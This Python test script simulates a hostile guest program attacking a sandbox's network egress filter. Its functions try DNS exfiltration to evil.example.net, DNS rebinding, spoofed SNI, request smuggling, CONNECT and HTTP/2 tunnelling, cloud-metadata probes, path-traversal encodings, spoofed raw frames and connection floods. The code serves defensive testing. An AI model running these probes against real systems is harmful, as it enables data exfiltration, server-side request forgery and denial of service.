"""What a hostile program in a guest tries against its network. Each function is one attack;
it prints what it got. The test looks at what arrived outside."""
import os
import random
import socket
import ssl
import struct
import sys
import time

A = dict(p.split("=", 1) for p in sys.argv[2:])  # names of the test: addresses
DNS = ("10.0.2.3", 53)


def say(*what):
    print(*what, flush=True)


def tcp(ip, port, data=b"", wait=5, more=None):
    """Connects, sends, and returns what comes."""
    try:
        s = socket.create_connection((ip, port), timeout=wait)
    except OSError as e:
        return ("refused:" + (e.strerror or str(e))).encode()
    out = b""
    try:
        s.sendall(data)
        if more:
            more(s)
        while len(out) < 1 << 16:
            got = s.recv(65536)
            if not got:
                break
            out += got
    except OSError as e:
        out += b" error:" + str(e).encode()
    s.close()
    return out


def query(name, kind=1):
    q = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", kind, 1)


def lookup(name, kind=1, server=DNS):
    """The answer's code and its number of records."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(query(name, kind), server)
        r = s.recv(4096)
    except OSError as e:
        return "none:" + type(e).__name__
    return "%d/%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])


def http(ip, host, path="/", port=80, method="GET", extra=""):
    return tcp(ip, port, ("%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (method, path, host, extra)).encode())


def line(b):
    return b.split(b"\r\n", 1)[0].decode("latin1")[:120]


def tls(ip, sni, port=443, alpn=None):
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    try:
        s = socket.create_connection((ip, port), timeout=5)
        c = ctx.wrap_socket(s, server_hostname=sni)
        c.sendall(b"GET /tls HTTP/1.1\r\nHost: " + (sni or "none").encode() + b"\r\nConnection: close\r\n\r\n")
        return line(c.recv(4096))
    except OSError as e:
        return "refused:" + str(e)


def hello(sni, extra=b""):
    """A TLS greeting with one more extension."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    c = ctx.wrap_bio(i, o, server_hostname=sni)
    try:
        c.do_handshake()
    except ssl.SSLWantReadError:
        pass
    b = bytearray(o.read()[5:])
    at = 4 + 34
    at += 1 + b[at]
    at += 2 + struct.unpack(">H", b[at:at + 2])[0]
    at += 1 + b[at]
    b[at:at + 2] = struct.pack(">H", struct.unpack(">H", b[at:at + 2])[0] + len(extra))
    b += extra
    b[1:4] = struct.pack(">I", len(b) - 4)[1:]
    return b"\x16\x03\x01" + struct.pack(">H", len(b)) + bytes(b)


def dns():
    for i in range(20):
        lookup("%030x.evil.example.net" % random.getrandbits(120))
        lookup("%030x.api.example.com" % random.getrandbits(120), 16)
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 252, 255):
        lookup("secret.evil.example.net", kind)
    lookup("_" + "a" * 40 + "._tcp.api.example.com", 33)
    for server in ("8.8.8.8", "192.0.2.2", A["evil"], "10.0.2.2"):
        lookup("direct.evil.example.net", 1, (server, 53))
        tcp(server, 53, b"\0\x20" + query("tcp.evil.example.net"), 2)
        tcp(server, 853, hello("dns.example.net"), 2)
    say(tls("1.1.1.1", "cloudflare-dns.com"))
    say(lookup("api.example.com"), lookup("evil.example.net"), lookup("x.wild.example.com"), lookup("wild.example.com"), lookup("evil.example.net.api.example.com"))


def answers():
    say(*[lookup("api.example.com", k) for k in (1, 28, 16, 15, 65)], lookup("_http._tcp.api.example.com", 33), lookup("alias.example.com"), lookup("alias.example.com", 5))


def rebind():
    say(lookup("rebind.example.com"), line(http(A["api"], "rebind.example.com")), tls(A["api"], "rebind.example.com"))
    for ip in ("127.0.0.1", "10.0.0.5", "192.0.2.1", "10.0.2.2", "10.0.2.3", "10.0.2.4"):
        for port in (22, 80, 443, 8787):
            if ip != "127.0.0.1" and not (ip.startswith("10.0.2.") and port in (80, 443)):
                tcp(ip, port, b"GET /evil HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n", 2)


def addresses():
    evil = A["evil"]
    n = struct.unpack(">I", socket.inet_aton(evil))[0]
    for spelling in (str(n), hex(n), "0%o.%d.%d.%d" % (n >> 24, n >> 16 & 255, n >> 8 & 255, n & 255), "%d.%d" % (n >> 24, n & 0xFFFFFF)):
        say(lookup(spelling), line(http(A["api"], spelling, "/evil")), tls(A["api"], spelling))
        try:
            say(tcp(socket.getaddrinfo(spelling, 80, socket.AF_INET)[0][4][0], 80, b"GET /evil HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 3)[:40])
        except OSError as e:
            say(e)
    words = socket.inet_aton(evil).hex()
    for six in ("2001:db8::1", "::ffff:" + evil, "::ffff:169.254.169.254", "64:ff9b::%s:%s" % (words[:4], words[4:]), "2002:%s:%s::1" % (words[:4], words[4:]), "::1:80"):
        for family, kind in ((socket.SOCK_STREAM, b"GET /evil HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"), (socket.SOCK_DGRAM, b"evil")):
            s = socket.socket(socket.AF_INET6, family)
            s.settimeout(2)
            try:
                s.connect((six, 80))
                s.sendall(kind)
                say(six, s.recv(100)[:40])
            except OSError as e:
                say(six, e.strerror or e)
    say(line(http(A["api"], "[::ffff:%s]" % evil, "/evil")), line(http(A["api"], evil, "/evil")), line(http(A["api"], A["api"], "/evil")))


def raw():
    for name, port in (("evil", 80), ("evil", 443), ("evil", 22), ("api", 5432), ("api", 22), ("db", 22), ("db", 443), ("git", 5432), ("api", 8443)):
        say(name, port, tcp(A[name], port, b"hello evil\r\n", 3)[:60])
    say(tcp(A["api"], 80, b"hello evil, this is no HTTP\r\n\r\n", 3)[:60], tcp(A["api"], 443, b"SSH-2.0-evil\r\n", 3)[:60])
    say(tcp(A["api"], 80, b"GET /\x80evil HTTP/1.1\r\nHost: evil.example.net\r\n\r\n", 3)[:60])
    say(tcp(A["api"], 80, b"GET /" + b"a" * 200000 + b"evil HTTP/1.1\r\nHost: evil.example.net\r\n\r\n", 3)[:60])
    # A port that a rule opens to a name still judges what it can read.
    say(line(http(A["db"], "evil.example.net", "/evil", 5432)), tls(A["db"], "evil.example.net", 5432), tls(A["db"], None, 5432))
    say(tcp(A["db"], 5432, b"\r\n\r\nget /evil http/1.1\r\nHost: evil.example.net\r\n\r\n", 3)[:60])


def allowed():
    say(line(http(A["api"], "api.example.com", "/ok")), tls(A["api"], "api.example.com"), tls(A["wild"], "x.wild.example.com"))
    lookup("db.example.com"), lookup("git.example.com"), lookup("time.example.com")
    say(tcp(A["db"], 5432, b"\0\0\0\x08startup", 3, lambda s: s.shutdown(socket.SHUT_WR)), tcp(A["git"], 2222, b"", 3))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    for _ in range(3):
        s.sendto(b"what time", (A["time"], 123))
        try:
            say(s.recv(100))
            break
        except OSError:
            pass


def sni():
    for name in ("cohost.example.net", "evil.example.net", None, "API.example.com.evil.example.net", "wild.example.com"):
        say(name, tls(A["api"], name))
    say(tls(A["evil"], "api.example.com"))  # must reach the address of the name, if any
    ech = b"\xfe\x0d" + struct.pack(">H", 10 + 32 + 144) + b"\0\0\1\0\1\x42" + struct.pack(">H", 32) + os.urandom(32) + struct.pack(">H", 144) + os.urandom(144)
    say(tcp(A["api"], 443, hello("api.example.com", ech), 3)[:7])
    say(tcp(A["api"], 443, hello("api.example.com", b"\0\0\0\x15\0\x13\0\0\x10evil.example.net"), 3)[:7])


def keepalive():
    def switch(s):
        s.recv(65536)
        s.sendall(b"GET /evil HTTP/1.1\r\nHost: evil.example.net\r\n\r\n")
    for host in ("evil.example.net", "cohost.example.net"):
        got = tcp(A["api"], 80, b"GET /first HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 5, lambda s: (s.recv(65536), s.sendall(b"GET /evil HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")))
        say(line(got))
    for head in ("GET http://evil.example.net/evil HTTP/1.1\r\nHost: api.example.com", "GET /evil HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net",
                 "GET /evil HTTP/1.1\r\nHost: api.example.com:8080", "GET /evil HTTP/1.1\r\nHost: api.example.com, evil.example.net",
                 "GET /evil HTTP/1.1\r\nHost:\r\n evil.example.net", "GET /evil HTTP/1.0", "GET /evil HTTP/1.1\r\nHost: api.example.com@evil.example.net"):
        say(line(tcp(A["api"], 80, head.encode() + b"\r\nConnection: close\r\n\r\n")))


def connect():
    for target in ("evil.example.net:443", "evil.example.net:80", A["evil"] + ":443", "api.example.com:22"):
        say(line(tcp(A["api"], 80, ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())),
            line(tcp(A["api"], 80, ("CONNECT %s HTTP/1.1\r\nHost: api.example.com\r\n\r\n" % target).encode())))


def frame(kind, flags, stream, body):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def headers(stream, pairs, end=True):
    block = b"".join(b"\x10" + bytes([len(k)]) + k.encode() + bytes([len(v)]) + v.encode() for k, v in pairs)
    return frame(1, 5 if end else 4, stream, block)


def http2():
    pre = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    get = lambda i, host, path, more=(): headers(i, [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path)] + list(more))
    one = tcp(A["api"], 80, pre + get(1, "api.example.com", "/h2ok") + get(3, "evil.example.net", "/evil") + get(5, "cohost.example.net", "/evil") + get(7, "api.example.com", "/evil", [("host", "evil.example.net")]), 4)
    say(len(one))
    tcp(A["api"], 80, pre + headers(1, [(":method", "CONNECT"), (":authority", "evil.example.net:443")], False) + frame(0, 0, 1, b"evil"), 3)
    tcp(A["api"], 80, pre + headers(1, [(":method", "POST"), (":scheme", "http"), (":authority", "evil.example.net"), (":path", "/evil.Service/Steal"), ("content-type", "application/grpc"), ("te", "trailers")], False) + frame(0, 1, 1, b"\0\0\0\0\4evil"), 3)
    tcp(A["api"], 80, b"GET /up HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", 3, lambda s: s.sendall(pre + get(3, "evil.example.net", "/evil")))
    tcp(A["api"], 443, pre + get(1, "evil.example.net", "/evil"), 3)


def smuggle():
    inner = b"GET /evil HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"
    for te in (b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding:\x0bchunked", b"X: y\nTransfer-Encoding: chunked", b"Content-Length: 5", b"Content-Length: +6", b"Transfer-Encoding: chunked, identity"):
        for body in (b"0\r\n\r\n" + inner, b"6\r\nabcdef\r\n0\r\n\r\n" + inner, b"5;x=\r\n" + inner):
            tcp(A["api"], 80, b"POST /s HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 6\r\n" + te + b"\r\n\r\n" + body, 1)
    tcp(A["api"], 80, b"GET /s HTTP/1.1\r\nHost: api.example.com\r\nConnection: close, Host\r\n\r\n" + inner, 2)


def websocket():
    head = "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    say(line(tcp(A["api"], 80, (head % ("/evil", "evil.example.net")).encode(), 3)))
    say(tcp(A["api"], 80, (head % ("/socket", "socket.example.com")).encode(), 4, lambda s: (s.recv(4096), s.sendall(b"echo this")))[:60])


def packets():
    for ip, port in ((A["api"], 443), (A["evil"], 443), (A["evil"], 123), (A["api"], 53), (A["time"], 124), ("8.8.8.8", 53), (A["time"], 443)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        try:
            s.connect((ip, port))
            s.send(b"\xc0\0\0\0\1evil" + b"\0" * 1200)
            say(ip, port, s.recv(100))
        except OSError as e:
            say(ip, port, e.strerror or "nothing")
    for ip in (A["api"], A["evil"], "8.8.8.8"):
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        s.settimeout(2)
        s.sendto(b"\x08\0\xf7\xff\0\0\0\0evil", (ip, 0))
        try:
            r = s.recv(200)
            say("icmp", r[20], r[21])
        except OSError:
            say("icmp nothing")
    for proto in (2, 4, 41, 47, 50, 132):
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
        try:
            s.sendto(b"evil" * 10, (A["api"], 0))
        except OSError:
            pass


def metadata():
    for ip in ("169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "168.63.129.16", "192.0.0.192", "169.254.0.23", "161.26.0.1", "169.254.42.42"):
        say(ip, tcp(ip, 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: %s\r\n\r\n" % ip.encode(), 2)[:40], line(http(A["api"], ip, "/evil")))
    for name in ("metadata.google.internal", "metadata.tencentyun.com", "instance-data.ec2.internal", "metadata"):
        say(lookup(name), line(http(A["api"], name, "/evil")))


def limits():
    say(tcp(A["api"], 443, b"\x16\x03\x01\xff\xff" + b"\x01\xff\xff\xff" + os.urandom(200000), 3)[:10])
    say(line(tcp(A["api"], 80, b"GET /evil HTTP/1.1\r\nHost: api.example.com\r\nX: " + b"a" * 500000 + b"\r\n\r\n", 3)))
    slow = []
    for i in range(60):
        s = socket.create_connection((A["api"], 443 if i % 2 else 80), timeout=5)
        s.sendall(b"\x16\x03" if i % 2 else b"GET /sl")
        slow.append(s)
    say(line(http(A["api"], "api.example.com", "/ok")), tls(A["api"], "api.example.com"))
    for s in slow:
        s.close()


def many():
    refused = 0
    for i in range(10000):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((A["evil"], 1 + i % 60000))
        except OSError:
            refused += 1
        s.close()
    say(refused, line(http(A["api"], "api.example.com", "/ok")))


def frames():
    dev = [d for d in os.listdir("/sys/class/net") if d != "lo"][0]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    mac = bytes.fromhex(open("/sys/class/net/%s/address" % dev).read().strip().replace(":", ""))
    gw = bytes.fromhex("52550a000202")

    def ip(src, dst, proto, body, frag=0, ihl=5, length=None):
        h = struct.pack(">BBHHHBBH4s4s", 0x40 | ihl, 0, length or 20 + len(body), 1, frag, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
        n = sum(struct.unpack(">10H", h))
        n = (n & 0xFFFF) + (n >> 16)
        n = (n & 0xFFFF) + (n >> 16)
        return gw + mac + b"\x08\0" + h[:10] + struct.pack(">H", ~n & 0xFFFF) + h[12:] + body
    udp = lambda port: struct.pack(">HHHH", 4444, port, 12, 0) + b"evil"
    out = [ip("10.9.9.9", A["evil"], 17, udp(53)), ip("10.0.2.15", A["evil"], 17, udp(53), 0x2000), ip("10.0.2.15", A["evil"], 17, udp(53)[8:] + b"evil", 1),
           ip("10.0.2.15", A["evil"], 47, b"evil" * 8), ip("10.0.2.15", A["evil"], 6, b"\0" * 4), ip("10.0.2.15", A["evil"], 17, udp(53), 0, 15), ip("10.0.2.15", A["evil"], 17, udp(53), 0, 5, 60000),
           ip("127.0.0.1", A["evil"], 17, udp(53)), ip("10.0.2.15", "127.0.0.1", 17, udp(53)), gw + mac + b"\x81\0\0\1" + ip("10.0.2.15", A["evil"], 17, udp(53))[12:], gw + mac + b"\x86\xdd" + b"\x60" + os.urandom(60), gw, b"\xff" * 14]
    for f in out * 20 + [os.urandom(random.randrange(14, 1400)) for _ in range(2000)]:
        try:
            s.send(f)
        except OSError:
            pass
    say(line(http(A["api"], "api.example.com", "/ok")))


def paths():
    rest = lambda path, method="GET", extra="": line(http(A["rest"], "rest.example.com", path, 80, method, extra))
    say(rest("/v1/ok"), rest("/v1/a%20b?x=/admin"))
    for path in ("/evil", "/v1/../evil", "/v1/%2e%2e/evil", "/v1/..%2fevil", "/v1/%2e%2e%2fevil", "/v1/..;/evil", "//evil", "/v1//../evil", "/v1/..\\evil", "/v1/%5c..%5cevil", "/v1/%252e%252e/evil",
                 "/v1/%c0%ae%c0%ae/evil", "/v1/.%00./evil", "/V1/evil", "/v1/.../evil", "/v1/evil%3f/..", "/v1/\x2e\x2e/evil", "http://rest.example.com/v1/../evil", "*", "/v1/%uff0e%uff0e/evil"):
        say(path, rest(path))
    for method in ("POST", "post", "get", "DELETE", "Get", "GETevil"):
        say(method, rest("/v1/evil-method", method))
    for h in ("X-HTTP-Method-Override: DELETE", "X-Http-Method: POST", "x-method-override: put"):
        say(h, rest("/v1/evil-override", "GET", h + "\r\n"))


def stream():
    """Receives from the allowed host until the connection ends, and says how."""
    s = socket.create_connection((A["api"], 80), timeout=30)
    s.sendall(b"GET /stream HTTP/1.1\r\nHost: stream.example.com\r\n\r\n")
    k = 0
    try:
        while True:
            got = s.recv(65536)
            if not got:
                break
            k += len(got)
            if not os.path.exists("/tmp/streaming") and k > 1000:
                open("/tmp/streaming", "w").close()
    except OSError as e:
        say("cut", e.strerror)
    else:
        say("ended")


def restored():
    say(line(http(A["api"], "api.example.com", "/ok")), tls(A["wild"], "x.wild.example.com"), tls(A["evil"], "evil.example.net"), tcp(A["evil"], 80, b"GET /evil HTTP/1.1\r\nHost: evil.example.net\r\n\r\n", 3)[:40])
    say(tcp(A["git"], 2222, b"", 3)[:20], tcp(A["evil"], 2222, b"", 3)[:20])


globals()[sys.argv[1]]()
